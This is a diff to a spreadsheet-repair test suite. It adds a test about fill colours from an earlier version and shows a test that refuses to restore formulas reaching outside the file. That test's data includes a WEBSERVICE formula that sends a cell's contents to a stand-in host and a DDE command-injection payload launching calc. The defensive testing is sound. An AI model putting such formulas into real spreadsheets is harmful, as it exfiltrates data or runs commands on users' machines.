@@ -81,6 +81,13 @@ describe('a forged journal in a file', () => {
     expect(changed).toBe(false);
   });
 
+  it('of an earlier version, which coloured cells themselves, is said to be so', async () => {
+    const fill = '<fill><patternFill patternType="none"/></fill>';
+    const { receipt, changed } = await reverted(entry([cell({ body: { kind: 'blank' }, fill }, { ...NUMBER, fill })]));
+    expect(receipt.refused).toEqual([{ sheet: '自评表', cell: 'E4', reason: expect.objectContaining({ 'zh-CN': expect.stringMatching(/早期版本.*没有恢复.*手工清除/) as unknown }) as unknown }]);
+    expect(changed).toBe(false);
+  });
+
   it.each(['WEBSERVICE("https://a/?"&A1)', "cmd|'/c calc'!A0", '[1]Sheet1!A1', 'HYPERLINK("https://a","b")'])('does not put back a formula that reaches outside (%s), but shows it', async (formula) => {
     const { receipt, changed, host } = await reverted(entry([cell({ body: { kind: 'formula', formula } })]));
     expect(receipt.restored).toEqual([]);
